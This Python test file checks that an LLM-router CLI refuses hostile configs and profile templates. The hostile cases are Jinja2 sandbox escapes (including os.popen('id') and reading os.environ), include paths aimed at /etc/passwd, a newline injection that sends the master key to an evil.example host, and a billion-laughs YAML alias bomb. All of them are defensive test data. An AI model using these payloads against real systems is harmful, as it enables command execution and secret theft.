"""Hostile input to the config and the profile templates (issue 13, defects 5-8): sandboxed templates, control
characters, YAML alias bombs and duplicate keys, and files that are not regular files.

Every case asserts the one-line message, the exit code, and that nothing was written. The cases that would hang
or fill memory if the fix regressed run the CLI in a child process with a memory limit and a timeout.
"""
from __future__ import annotations

import base64
import dataclasses
import json
import os
import re
import resource
import subprocess
import sys
import threading
import unittest
from pathlib import Path

from llm_router import config as config_mod
from llm_router import fsutil, profiles
from llm_router.errors import USAGE, RouterError
from tests.support import REPO, TempRepo, patched_env, snapshot

CONFIG = """\
config_version: 2
services:
  cliproxyapi_plus: {host: 127.0.0.1, port: 8417}
  litellm: {host: 127.0.0.1, port: 4100}
providers:
  cliproxy: {type: cliproxyapi_plus}
  custom: {type: openai_compatible, api_base: https://api.example.com/v1, api_key_env: CUSTOM_API_KEY, tier: paid}
models:
  - name: coder
    deployments: [{provider: cliproxy, model: gpt-5-codex}, {provider: custom, model: gpt-4.1}]
secret_files: {}
"""
DECLARED_BASES = {"http://127.0.0.1:8417/v1", "https://api.example.com/v1"}
# What a newline would smuggle into the rendered YAML: a deployment sending the master key elsewhere.
INJECTED = ("x\n  - model_name: coder\n    litellm_params: {model: openai/x, api_base: 'http://evil.example/v1', "
            "api_key: os.environ/LITELLM_MASTER_KEY}\n    model_info: {id: coder/custom/evil}")
PROFILE_HEAD = """\
{# evil: a hostile profile #}
{% extends "base.yaml.j2" %}
{% set paid_last = false %}{% set cooldown_time = 1 %}{% set timeout = 1 %}{% set stream_timeout = 1 %}
{% block router_settings %}
router_settings:
"""
PROFILE_LINE = 6  # the first line after PROFILE_HEAD
BILLION_LAUGHS = "lol0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))  # 9**10 values, ~400 bytes
MEMORY_LIMIT = 2 << 30


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def isolated_cli(*argv: str, timeout: float = 120) -> tuple[int, str, str]:
    """`llm-router ARGV` in a child process limited to 2 GiB, killed after `timeout`: a regression that hangs or
    fills memory fails the test instead of the machine."""
    code = "import sys; from llm_router.cli import main; sys.exit(main(sys.argv[1:]))"
    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    proc = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=timeout,
                          env=env, preexec_fn=_limit_memory, stdin=subprocess.DEVNULL)
    return proc.returncode, proc.stdout, proc.stderr


class HostileCase(TempRepo):
    def setUp(self) -> None:
        super().setUp()
        self.write_config(CONFIG)

    def assert_refused(self, code: int, err: str, *expected: str, exit_code: int = USAGE) -> str:
        """Exit code, no traceback, and an `error:` line holding every expected fragment; returns that line."""
        self.assertEqual(code, exit_code, err)
        self.assertNotIn("Traceback", err)
        lines = [line for line in err.splitlines() if line.startswith("error: ")]
        self.assertEqual(len(lines), 1, err)
        for fragment in expected:
            self.assertIn(fragment, err)
        return lines[0]

    def isolated(self, *argv: str) -> tuple[int, str, str]:
        return isolated_cli("--config", str(self.config_path), *argv)


class TemplateSandboxTest(HostileCase):
    """Defect 5: templates render in Jinja2's sandbox and see only the validated config."""

    ESCAPES = {
        "globals of a global": "x: {{ cycler.__init__.__globals__.os.environ }}",
        "a command": "x: {{ lipsum.__globals__['os'].popen('id').read() }}",
        "python classes": "x: {{ ''.__class__.__mro__[1].__subclasses__() }}",
        "the render context": "x: {{ self._TemplateReference__context }}",
        "format escapes": "x: {{ '{0.__class__}'.format(1) }}",
        "mutating the context": "x: {{ models.append(1) }}",
    }

    def write_profile(self, body: str) -> Path:
        path = self.root / "config" / "profiles" / "evil.yaml.j2"
        path.parent.mkdir(exist_ok=True)
        path.write_text(PROFILE_HEAD + body + "\n{% endblock %}\n")
        return path

    def activate_default(self) -> dict:
        cfg = config_mod.load(self.config_path)
        info = profiles.ensure_active(cfg)
        self.assertEqual(info["name"], "balanced")
        return snapshot(self.root)

    def test_escapes_are_refused_with_file_and_line_and_nothing_is_written(self):
        before = self.activate_default()
        for what, body in self.ESCAPES.items():
            with self.subTest(what):
                path = self.write_profile(body)
                before[str(path.relative_to(self.root))] = (path.stat().st_mode & 0o777, path.read_bytes())
                for verb in ("show", "set"):
                    code, out, err = self.cli("profile", verb, "evil")
                    line = self.assert_refused(code, err, f"{path}:{PROFILE_LINE}: forbidden by the template sandbox")
                    self.assertNotIn("uid=", out + err)
                    self.assertNotIn("PATH", line)
                self.assertEqual(snapshot(self.root), before)  # the active profile and its files untouched

    def test_other_files_cannot_be_included(self):
        for target in ("/etc/passwd", "../../../../../../etc/passwd", "../routertool.yaml"):
            with self.subTest(target):
                self.write_profile(f'{{% include "{target}" %}}')
                code, _, err = self.cli("profile", "show", "evil")
                self.assert_refused(code, err, f"template '{target}' not found")
                self.assertNotIn("root:", err)

    def test_context_holds_no_secret_value_so_no_filter_can_leak_one(self):
        secret = "sk-canary-transformed-0123456789"
        (self.root / "key").write_text(secret + "\n")
        self.write_config(CONFIG.replace("secret_files: {}", "secret_files: {OTHER_KEY: key}"))
        env = {"CUSTOM_API_KEY": secret[::-1] + "-env", "LITELLM_MASTER_KEY": "sk-master-canary-9876543210"}
        with patched_env(env):
            cfg = config_mod.load(self.config_path)
            values = set(cfg.known_secrets())
            self.assertIn(secret, values)
            dumped = json.dumps(profiles.context(cfg, "evil"))
            for value in values:
                self.assertNotIn(value, dumped)
            # Everything a template can reach, dumped reversed and base64-encoded: still no secret in any form.
            self.write_profile("  dump: {{ (models ~ providers ~ services ~ profile) | reverse | tojson }}")
            code, out, err = self.cli("profile", "show", "evil")
            self.assertEqual(code, 0, err)
            for value in values:
                for form in (value, value[::-1], base64.b64encode(value.encode()).decode()):
                    self.assertNotIn(form, out)
            self.assertIn("CUSTOM_API_KEY"[::-1], out)  # the variable's *name* is there, reversed

    def test_a_literal_secret_is_still_refused(self):
        secret = "sk-canary-literal-0123456789"
        self.write_profile(f"  redis_password: {secret}")
        with patched_env({"CUSTOM_API_KEY": secret}):
            code, out, err = self.cli("profile", "show", "evil")
        self.assert_refused(code, err, "contains the value of a secret")
        self.assertNotIn(secret, out + err)


class ControlCharacterTest(HostileCase):
    """Defect 6: control characters are refused in every string of the config, and cannot inject YAML when
    rendered even if validation were bypassed."""

    CASES = {  # what: (old, new, dotted path)
        "newline in a model": ("model: gpt-4.1", f"model: {json.dumps('gpt-4.1' + INJECTED)}",
                               "models[0].deployments[1].model"),
        "newline in a group name": ("name: coder", f"name: {json.dumps('coder' + INJECTED)}", "models[0].name"),
        "newline in api_key_env": ("api_key_env: CUSTOM_API_KEY", 'api_key_env: "CUSTOM_API_KEY\\n"',
                                   "providers.custom.api_key_env"),
        "NUL in a host": ("{host: 127.0.0.1, port: 4100}", '{host: "127.0.0.1\\0", port: 4100}',
                          "services.litellm.host"),
        "line separator in api_base": ("https://api.example.com/v1", '"https://api.example.com/v1\\u2028x"',
                                       "providers.custom.api_base"),
        "DEL in a path": ("secret_files: {}", 'secret_files: {K: "a\\x7fb"}', "secret_files.K"),
        "tab in a readiness path": ("port: 8417}", 'port: 8417, readiness_path: "/v1/models\\tx"}',
                                    "services.cliproxyapi_plus.readiness_path"),
        "newline in a provider name": ("  custom: {type", '  "cust\\nom": {type', "providers.cust\\nom"),
    }

    def test_config_check_refuses_them_with_line_and_path(self):
        for what, (old, new, dotted) in self.CASES.items():
            with self.subTest(what):
                self.assertIn(old, CONFIG)
                self.write_config(CONFIG.replace(old, new, 1))
                before = snapshot(self.root)
                for argv in (("config", "check"), ("profile", "set", "balanced")):
                    code, out, err = self.cli(*argv)
                    self.assertEqual(code, USAGE, err)
                    self.assertNotIn("Traceback", err)
                    problem = [line for line in err.splitlines() if "control character" in line]
                    self.assertTrue(problem, err)
                    self.assertRegex(problem[0], rf"line \d+: {re.escape(dotted)}: ")
                    self.assertNotIn("evil.example", "\n".join(line for line in err.splitlines()
                                                              if line.lstrip().startswith("- model_name")))
                    for line in err.splitlines():  # every problem is one printable line
                        self.assertNotRegex(line, config_mod.CONTROL.pattern)
                self.assertEqual(snapshot(self.root), before)

    def test_env_names_and_names_are_matched_whole(self):
        self.assertIsNone(config_mod.ENV_NAME.match("CUSTOM_API_KEY\n"))
        self.assertIsNone(config_mod.NAME.match("coder\n"))

    def bypassed(self, **changes) -> config_mod.RouterConfig:
        """The valid config with strings changed behind validation's back."""
        cfg = config_mod.load(self.config_path)
        group = cfg.models[0]
        if "group" in changes:
            group = dataclasses.replace(group, name=changes["group"])
        if "model" in changes:
            group = dataclasses.replace(group, deployments=(
                group.deployments[0], dataclasses.replace(group.deployments[1], model=changes["model"])))
        providers = dict(cfg.providers)
        if "key_env" in changes:
            providers["custom"] = dataclasses.replace(providers["custom"], api_key_env=changes["key_env"])
        return dataclasses.replace(cfg, models=(group,), providers=providers)

    def test_rendering_directly_refuses_a_context_that_bypassed_validation(self):
        for field in ("group", "model", "key_env"):
            with self.subTest(field):
                cfg = self.bypassed(**{field: "a" + INJECTED})
                with self.assertRaises(RouterError) as caught:
                    profiles.render(cfg, "balanced")
                self.assertEqual(caught.exception.exit_code, USAGE)
                self.assertIn("control character", caught.exception.message)
                self.assertNotIn("\n", caught.exception.message)
                self.assertFalse(cfg.layout.active_config.exists())

    def test_the_base_template_keeps_every_value_inside_its_scalar(self):
        """Below the context check: the sandbox's finalize and |tojson still keep a newline from adding a
        deployment, whichever value carries it."""
        cfg = config_mod.load(self.config_path)
        template = profiles._environment(cfg).get_template("balanced.yaml.j2")
        for field in ("name", "model", "api_key_env", "id", "tier", "api_base"):
            with self.subTest(field):
                values = profiles.context(cfg, "balanced")
                target = values["models"][0] if field == "name" else values["models"][0]["deployments"][1]
                target[field] = target[field] + INJECTED
                try:
                    marked = template.render(values)
                except Exception as exc:  # noqa: BLE001 - the refusal is the expected outcome for raw outputs
                    self.assertIsInstance(exc, profiles._UnsafeOutput, repr(exc))
                    continue
                text, _ = profiles._split_origins(marked)
                _, data = config_mod.load_yaml(text)
                deployments = data["model_list"]
                self.assertEqual(len(deployments), 2, text)
                self.assertLessEqual({d["litellm_params"]["api_base"] for d in deployments} - {INJECTED},
                                     DECLARED_BASES | {"https://api.example.com/v1" + INJECTED}, text)
                self.assertNotIn("evil.example/v1'", "\n".join(
                    line for line in text.splitlines() if line.strip().startswith("api_base:")
                    and not line.strip().startswith('api_base: "')))

    def test_template_text_written_through_super_may_span_lines(self):
        path = self.root / "config" / "profiles" / "mine.yaml.j2"
        path.parent.mkdir()
        path.write_text('{# mine #}\n{% extends "balanced.yaml.j2" %}\n{% block router_settings %}\n{{ super() }}\n'
                        '  extra_key: 1\n{% endblock %}\n')
        code, out, err = self.cli("profile", "show", "mine")
        self.assertEqual(code, 0, err)
        _, data = config_mod.load_yaml(out)
        self.assertEqual((data["router_settings"]["num_retries"], data["router_settings"]["extra_key"]), (1, 1))

    def test_a_template_value_with_a_newline_is_refused_at_its_line(self):
        path = self.root / "config" / "profiles" / "evil.yaml.j2"
        path.parent.mkdir()
        path.write_text(PROFILE_HEAD + "  x: {{ 'a\\n  - model_name: coder' }}\n{% endblock %}\n")
        code, _, err = self.cli("profile", "show", "evil")
        self.assert_refused(code, err, f"{path}:{PROFILE_LINE}: unsafe value", "control character (\\n)")


class YamlBombAndDuplicateKeyTest(HostileCase):
    """Defects 7 and 8: an alias bomb and duplicate keys are refused with a line, in routertool.yaml and in a
    rendered profile, by the one YAML reader."""

    def test_an_alias_bomb_config_is_refused_without_filling_memory(self):
        self.write_config(CONFIG + BILLION_LAUGHS)
        self.assertLess(self.config_path.stat().st_size, 4096)
        before = snapshot(self.root)
        for argv in (("config", "check"), ("status",)):
            with self.subTest(argv):
                code, _, err = self.isolated(*argv)
                self.assert_refused(code, err, f"{self.config_path}:",
                                    "more than 100000 values once its aliases are expanded")
        self.assertEqual(snapshot(self.root), before)

    def test_a_recursive_alias_and_deep_nesting_are_refused(self):
        for what, text, expected in (("recursive", "x: &a [*a]\n", "refers to the node that contains it"),
                                     ("deep", "x: " + "[" * 200 + "]" * 200 + "\n", "nested deeper than 64")):
            with self.subTest(what):
                self.write_config(CONFIG + text)
                code, _, err = self.cli("config", "check")
                self.assert_refused(code, err, expected)

    def test_a_few_aliases_and_merge_keys_still_work(self):
        # A merged key overridden by the mapping's own key (tier) is not a duplicate.
        text = "x-base: &base {type: openai_compatible, tier: subscription}\n" + CONFIG.replace(
            "  custom: {type: openai_compatible, api_base:", "  custom: {<<: *base, api_base:")
        _, data = config_mod.load_yaml(text)
        self.assertEqual(data["providers"]["custom"]["tier"], "paid")
        self.write_config(text)
        code, out, err = self.cli("config", "check")
        self.assertEqual(code, USAGE, err)
        self.assertIn("line 1: x-base: unknown key", err)  # the only problem
        self.assertNotIn("duplicate", err)
        self.write_config(CONFIG.replace("models:\n  - name: coder\n    deployments:",
                                         "models:\n  - name: coder\n    deployments: &deps")
                          .replace("secret_files:", "  - name: coder2\n    deployments: *deps\nsecret_files:"))
        code, out, err = self.cli("config", "check")
        self.assertEqual(code, 0, err)

    def test_duplicate_keys_are_refused_with_their_line(self):
        cases = {
            "top level": (CONFIG + "config_version: 2\n", 12, "duplicate key \"config_version\" (first on line 1)"),
            "nested": (CONFIG.replace("port: 4100}", "port: 4100, port: 4101}"), 4, "duplicate key \"port\""),
            "1 and true": (CONFIG + "x: {1: a, true: b}\n", 12, "duplicate key"),
        }
        for what, (text, line, expected) in cases.items():
            with self.subTest(what):
                self.write_config(text)
                before = snapshot(self.root)
                code, _, err = self.cli("config", "check")
                self.assert_refused(code, err, f"{self.config_path}:{line}: {expected}")
                self.assertEqual(snapshot(self.root), before)

    def write_profile(self, body: str) -> Path:
        path = self.root / "config" / "profiles" / "evil.yaml.j2"
        path.parent.mkdir(exist_ok=True)
        path.write_text(PROFILE_HEAD + body + "{% endblock %}\n")
        return path

    def test_a_rendered_profile_with_a_duplicate_key_or_a_bomb_is_refused_at_the_template_line(self):
        path = self.write_profile("  num_retries: 1\n  num_retries: 2\n")
        code, _, err = self.cli("profile", "show", "evil")
        self.assert_refused(code, err, f"{path}:{PROFILE_LINE + 1}: duplicate key \"num_retries\"")
        bomb = "".join("  " + line + "\n" for line in BILLION_LAUGHS.splitlines())
        path = self.write_profile(bomb)
        code, _, err = self.isolated("profile", "set", "evil")
        self.assert_refused(code, err, f"{path}:", "more than 100000 values once its aliases are expanded")
        self.assertFalse((self.root / ".router" / "runtime" / "litellm" / "active.yaml").exists())


class BoundedReadTest(HostileCase):
    """Defect 8: a FIFO, a device, a folder or a huge file as the config, a secret file or the Codex import
    source is refused at once (exit 2), and nothing is written."""

    def fifo(self, name: str = "fifo") -> Path:
        path = self.root / name
        os.mkfifo(path)
        return path

    def test_the_config_file(self):
        huge = self.root / "huge.yaml"
        with open(huge, "wb") as handle:
            handle.truncate(config_mod.MAX_CONFIG_BYTES + 1)  # sparse
        cases = {"a FIFO": (self.fifo(), "is a FIFO, not a regular file"),
                 "/dev/zero": (Path("/dev/zero"), "is a character device, not a regular file"),
                 "a huge file": (huge, f"is larger than {config_mod.MAX_CONFIG_BYTES} bytes")}
        before = snapshot(self.root)
        for what, (path, expected) in cases.items():
            with self.subTest(what):
                code, _, err = isolated_cli("--config", str(path), "status")
                self.assert_refused(code, err, f"config file {path} {expected}")
        code, _, err = isolated_cli("--config", str(self.root), "status")
        self.assert_refused(code, err, "config path is a folder")
        self.assertEqual(snapshot(self.root), before)

    def test_a_secret_file(self):
        for what, target in (("a FIFO", str(self.fifo())), ("/dev/zero", "/dev/zero"), ("a folder", str(self.root))):
            with self.subTest(what):
                self.write_config(CONFIG.replace("secret_files: {}", f"secret_files: {{CUSTOM_API_KEY: {target}}}"))
                before = snapshot(self.root)
                for argv in (("config", "check"), ("config", "show")):
                    code, _, err = self.isolated(*argv)
                    self.assertEqual(code, USAGE, err)
                    self.assertNotIn("Traceback", err)
                    self.assertIn(f"line 11: secret_files.CUSTOM_API_KEY: {target} is ", err)
                    self.assertIn("a secret file must be a regular file", err)
                self.assertEqual(snapshot(self.root), before)

    def test_a_secret_file_that_turns_into_a_fifo_after_loading_reads_as_unset(self):
        key = self.root / "key"
        key.write_text("sk-from-file-0123456789\n")
        self.write_config(CONFIG.replace("secret_files: {}", f"secret_files: {{CUSTOM_API_KEY: {key}}}"))
        with patched_env({"CUSTOM_API_KEY": None}):
            cfg = config_mod.load(self.config_path)
            self.assertEqual(cfg.secret("CUSTOM_API_KEY"), "sk-from-file-0123456789")
            key.unlink()
            os.mkfifo(key)
            released = _release_fifo_later(self, key)
            self.assertIsNone(cfg.secret("CUSTOM_API_KEY"))
            self.assertEqual(cfg.secret_source("CUSTOM_API_KEY"), "missing")
            self.assertNotIn("sk-from-file", " ".join(cfg.known_secrets()))
        self.assertFalse(released.is_set(), "the read blocked on the FIFO")

    def test_the_codex_import_source(self):
        huge = self.root / "auth.json"
        with open(huge, "wb") as handle:
            handle.truncate((1 << 20) + 1)
        cases = {"a FIFO": (self.fifo("codex-fifo"), "is a FIFO, not a regular file", USAGE),
                 "/dev/zero": (Path("/dev/zero"), "is a character device, not a regular file", USAGE),
                 "a huge file": (huge, "is larger than 1048576 bytes", USAGE),
                 "a folder": (self.root, "Is a directory", USAGE)}
        auths = self.root / ".router" / "auths"
        for what, (path, expected, exit_code) in cases.items():
            with self.subTest(what):
                code, _, err = self.isolated("auth", "codex", "import-headless", "--source", str(path))
                self.assert_refused(code, err, str(path), expected, exit_code=exit_code)
                self.assertEqual(list(auths.glob("*")) if auths.exists() else [], [])

    def test_the_helper(self):
        fifo = self.fifo()
        released = _release_fifo_later(self, fifo)
        with self.assertRaises(RouterError) as caught:
            fsutil.read_text_bounded(fifo, 100, "thing")
        self.assertEqual((caught.exception.exit_code, caught.exception.message),
                         (USAGE, f"thing {fifo} is a FIFO, not a regular file; refusing to read it"))
        self.assertFalse(released.is_set())
        with self.assertRaises(RouterError):
            fsutil.read_text_bounded(Path("/dev/zero"), 100)
        with self.assertRaises(IsADirectoryError):
            fsutil.read_text_bounded(self.root, 100)
        with self.assertRaises(FileNotFoundError):
            fsutil.read_text_bounded(self.root / "missing", 100)
        small = self.root / "small"
        small.write_bytes(b"a\r\nb\rc\n")
        self.assertEqual(fsutil.read_text_bounded(small, 7), small.read_text())
        with self.assertRaises(RouterError):
            fsutil.read_text_bounded(small, 6)


def _release_fifo_later(test: unittest.TestCase, fifo: Path, after: float = 60.0) -> threading.Event:
    """If a read of `fifo` blocks (a regression), open and close its write end after `after` seconds so that the
    reader gets EOF and the test fails instead of hanging. Returns an event set when that happened."""
    fired = threading.Event()

    def release() -> None:
        try:
            fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            return  # nobody is reading it
        fired.set()
        os.close(fd)

    timer = threading.Timer(after, release)
    timer.daemon = True
    timer.start()
    test.addCleanup(timer.cancel)
    return fired


if __name__ == "__main__":
    unittest.main()
